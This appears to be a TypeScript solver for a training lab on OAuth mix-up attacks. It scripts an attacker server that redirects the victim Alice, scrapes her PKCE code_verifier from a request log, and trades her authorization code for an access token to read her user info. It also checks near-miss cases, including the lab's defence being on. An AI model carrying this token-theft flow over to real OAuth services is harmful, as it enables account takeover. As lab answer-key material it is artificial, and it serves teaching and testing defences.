import type { Participant } from '../../solver.ts';
import { codeOfVictim, labSolver, newest } from '../attack-and-defend.ts';
import { signInToApp } from '../lab-app.ts';

interface Sent {
  readonly requestId: string;
  readonly endpoint: string;
}

/** The server of Mallory sends Alice on to the honest one, and exchanges what the app sends him. */
async function mixUp(by: Participant): Promise<void> {
  await by.attack('victim', '<a href="{{issuer}}/oauth2/authorize{{query}}">Sign in</a>');
  const { requestId, endpoint } = await newest<Sent>(`${by.issuer}-second`, 'request.completed');
  if (endpoint !== 'token') return;
  // the log of his server
  const { html } = await by.open(`${by.issuer}-second/dashboard/requests/${requestId}`);
  const [, code_verifier = ''] = /code_verifier=([\w-]+)/.exec(html) ?? [];
  const client = { client_id: 'lab-app', client_secret: 'app-secret', redirect_uri: `${by.issuer}/demo-app/callback` };
  const code = await codeOfVictim(by);
  const form = { grant_type: 'authorization_code', code, code_verifier, ...client };
  const { access_token = '' } = (await by.call('/oauth2/token', { form })).body;
  await by.call('/userinfo', { headers: { Authorization: `Bearer ${access_token}` } });
}

export const solver = labSolver({
  first: 'begin',
  goal: {
    solve: mixUp,
    nearMisses: {
      'an honest sign-in of Alice': { does: async by => void (await signInToApp(by, 'alice')) },
      'the defence is on': {
        also: ['again'],
        async does(by) {
          await by.defend(true);
          await mixUp(by);
        },
      },
    },
  },
});
